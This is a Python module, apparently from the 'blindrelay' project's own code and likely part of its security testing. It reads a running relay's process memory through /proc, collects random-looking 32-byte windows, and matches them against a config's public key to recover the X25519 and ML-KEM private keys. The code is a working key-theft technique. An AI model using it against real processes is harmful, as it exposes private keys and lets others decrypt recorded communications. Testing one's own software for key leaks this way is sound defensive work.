"""A thief of a running bridge: it copies the memory and looks for keys that open what was recorded.

A key is 32 random bytes. The thief tries whatever looks random at an address that is a multiple of 8.
"""

from __future__ import annotations

import hashlib
from dataclasses import dataclass
from pathlib import Path
from typing import Final

import numpy as np
from cryptography.hazmat.primitives.asymmetric.mlkem import MLKEM768PrivateKey
from cryptography.hazmat.primitives.asymmetric.x25519 import X25519PrivateKey
from nacl.bindings import crypto_scalarmult_base

from blindrelay.sealing import SealingKey
from blindrelay.sealing.keys import parse_config

SIZE: Final = 32
_WORD: Final = 8
_DISTINCT: Final = 20
"""Of 32 random bytes 30 differ on average; fewer than this happens once in 10^12."""

_MLKEM_PUBLIC_SIZE: Final = 1_184
_MLKEM_RANK: Final = 3


def dump(pid: int) -> list[bytes]:
    """The writable memory of a process."""
    regions = []
    with Path(f"/proc/{pid}/maps").open() as maps, Path(f"/proc/{pid}/mem").open("rb", 0) as memory:
        for line in maps:
            bounds, access = line.split()[:2]
            if access.startswith("rw"):
                start, end = (int(bound, 16) for bound in bounds.split("-"))
                memory.seek(start)
                regions.append(memory.read(end - start))
    return regions


@dataclass(frozen=True)
class StolenKey:
    """What opens an epoch's exchanges: the X25519 key, and "d" of FIPS 203 (honest clients need no "z")."""

    x25519: bytes
    mlkem_seed: bytes

    def sealing_key(self, config: bytes) -> SealingKey:
        parsed = parse_config(config)
        return SealingKey(
            MLKEM768PrivateKey.from_seed_bytes(self.mlkem_seed + bytes(SIZE)),
            X25519PrivateKey.from_private_bytes(self.x25519),
            parsed.not_before,
            parsed.not_after,
        )


def find_key(candidates: set[bytes], config: bytes) -> StolenKey | None:
    """The private key of a config, if both of its parts are among the candidates."""
    public_key = parse_config(config).public_key
    rho, x25519 = public_key[_MLKEM_PUBLIC_SIZE - SIZE : _MLKEM_PUBLIC_SIZE], public_key[_MLKEM_PUBLIC_SIZE:]
    seeds = (one for one in candidates if hashlib.sha3_512(one + bytes([_MLKEM_RANK])).digest()[:SIZE] == rho)
    scalars = (one for one in candidates if crypto_scalarmult_base(one) == x25519)
    if (seed := next(seeds, None)) is None or (scalar := next(scalars, None)) is None:
        return None
    return StolenKey(scalar, seed)


def random_looking(memory: list[bytes]) -> set[bytes]:
    """Every 32 aligned bytes without a pointer, a small number or text in them."""
    found = set()
    for region in memory:
        neither_pointer_nor_small = np.frombuffer(region, "<u8") >> np.uint64(48) != 0
        windows = np.lib.stride_tricks.sliding_window_view(neither_pointer_nor_small, SIZE // _WORD)
        for index in np.flatnonzero(windows.all(axis=1)):
            window = region[index * _WORD : index * _WORD + SIZE]
            if len(set(window)) >= _DISTINCT and not window.isascii():
                found.add(window)
    return found
